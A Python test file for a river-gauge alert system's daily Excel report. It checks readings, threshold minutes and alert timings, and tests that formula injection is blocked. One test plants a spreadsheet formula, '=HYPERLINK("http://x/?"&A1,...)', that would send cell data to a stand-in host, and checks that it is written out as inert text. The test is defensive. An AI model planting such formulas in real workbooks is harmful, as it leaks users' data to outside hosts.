"""The daily report's numbers, checked against the readings and alerts stored for the day."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from tests.alerts.helpers import River
from wallboard.alerts.repo import AlertRepo
from wallboard.alerts.service import AlertService
from wallboard.cli import main
from wallboard.store import schema

WIB = ZoneInfo("Asia/Jakarta")
DAY = date(2026, 11, 28)


def at(hour: int, minute: int, day: date = DAY) -> datetime:
    return datetime(day.year, day.month, day.day, hour, minute, tzinfo=WIB)


@pytest.fixture
def river_day(tmp_path):
    """A day of the river gauge: warning carried in from before midnight, a critical hour at ten."""
    river = River(tmp_path, f"sqlite:///{tmp_path / 'w.db'}", alerts="{min_duration: null}")
    (tmp_path / "config.yaml").write_text(river.text, encoding="utf-8")
    service = AlertService(river.store, lambda: river.config)
    repo = AlertRepo(river.store.engine)
    steps = [
        (at(23, 50, DAY - timedelta(days=1)), 300),  # warning, carried into the day
        (at(0, 30), 200), (at(10, 0), 330), (at(10, 20), 260), (at(11, 0), 100), (at(23, 0), 150),
        (at(0, 10, DAY + timedelta(days=1)), 999),  # the next day: not in this report
    ]
    for when, value in steps:
        river.run(when, {"12.75": value})
        service.evaluate(when.astimezone(UTC))
        if when == at(10, 0):
            repo.acknowledge(repo.open_alerts()[0].id, "sari", "pintu air dibuka", now=at(10, 7))
    yield river
    service.stop()
    river.close()


def sheet_rows(path, name: str) -> list[dict]:
    book = load_workbook(path)
    rows = list(book[name].iter_rows(values_only=True))
    header_at = 1 if name == "Indikator" else 0
    header = rows[header_at]
    return [dict(zip(header, row, strict=False)) for row in rows[header_at + 1:]]


def test_report_numbers_match_the_stored_day(river_day, tmp_path) -> None:
    out = tmp_path / "laporan.xlsx"
    assert main(["report", "--config", str(tmp_path / "config.yaml"), "--date", "2026-11-28",
                 "--output", str(out)]) == 0

    (row,) = sheet_rows(out, "Indikator")
    r = schema.readings
    t0, t1 = int(at(0, 0).timestamp()), int(at(0, 0, DAY + timedelta(days=1)).timestamp())
    with river_day.store.engine.connect() as conn:
        lo, hi, n = conn.execute(select(func.min(r.c.value), func.max(r.c.value), func.count())
                                 .where(r.c.ts >= t0, r.c.ts < t1)).one()
        last = conn.execute(select(r.c.value).where(r.c.ts < t1).order_by(r.c.ts.desc()).limit(1)).scalar()
    assert (row["Min"], row["Maks"], row["Terakhir"], row["Jumlah data"]) == (lo, hi, last, n) == (100, 330, 150, 5)
    # 00:00-00:30 at 300 (carried in) and 10:00-11:00 at 330 then 260: 90 minutes, 20 of them critical.
    assert (row["Menit di luar ambang"], row["Menit kritis"]) == (90, 20)
    assert row["OPD"] == "BPBD"

    alerts = sheet_rows(out, "Peringatan")
    assert len(alerts) == 2
    night, flood = alerts
    assert night["Dibuka"] == datetime(2026, 11, 27, 23, 50) and night["Ditutup"] == datetime(2026, 11, 28, 0, 30)
    assert (night["Menit sampai selesai"], night["Menit sampai ditanggapi"], night["Oleh"]) == (40, None, None)
    assert (flood["Status puncak"], flood["Puncak"], flood["Oleh"], flood["Catatan"]) == (
        "critical", 330, "sari", "pintu air dibuka")
    assert (flood["Menit sampai ditanggapi"], flood["Menit sampai selesai"]) == (7, 60)

    (unit,) = sheet_rows(out, "OPD")
    assert (unit["OPD"], unit["Peringatan"], unit["Kritis"], unit["Belum ditanggapi"]) == ("BPBD", 2, 1, 1)
    assert (unit["Rata-rata menit sampai ditanggapi"], unit["Rata-rata menit sampai selesai"]) == (7, 50)
    assert unit["Menit di luar ambang"] == 90


def test_report_rejects_a_bad_date_in_one_line(river_day, tmp_path, capsys) -> None:
    assert main(["report", "--config", str(tmp_path / "config.yaml"), "--date", "28-11-2026"]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "YYYY-MM-DD" in err


def test_report_writes_a_formula_like_note_as_text_never_a_formula(river_day, tmp_path) -> None:
    """An acknowledgement note is typed by a person: ``=HYPERLINK(...)`` must open as text (issue 22)."""
    import zipfile

    note = '=HYPERLINK("http://x/?"&A1,"klik")'
    with river_day.store.engine.begin() as conn:
        conn.execute(schema.alerts.update().where(schema.alerts.c.ack_note.is_not(None)).values(ack_note=note))
    out = tmp_path / "laporan.xlsx"
    assert main(["report", "--config", str(tmp_path / "config.yaml"), "--date", "2026-11-28",
                 "--output", str(out)]) == 0
    notes = [a["Catatan"] for a in sheet_rows(out, "Peringatan")]
    assert note in notes
    cell = next(c for row in load_workbook(out)["Peringatan"].iter_rows() for c in row if c.value == note)
    assert cell.data_type == "s" and cell.quotePrefix
    with zipfile.ZipFile(out) as book:
        sheets = [book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in s for s in sheets)  # no formula anywhere in the workbook
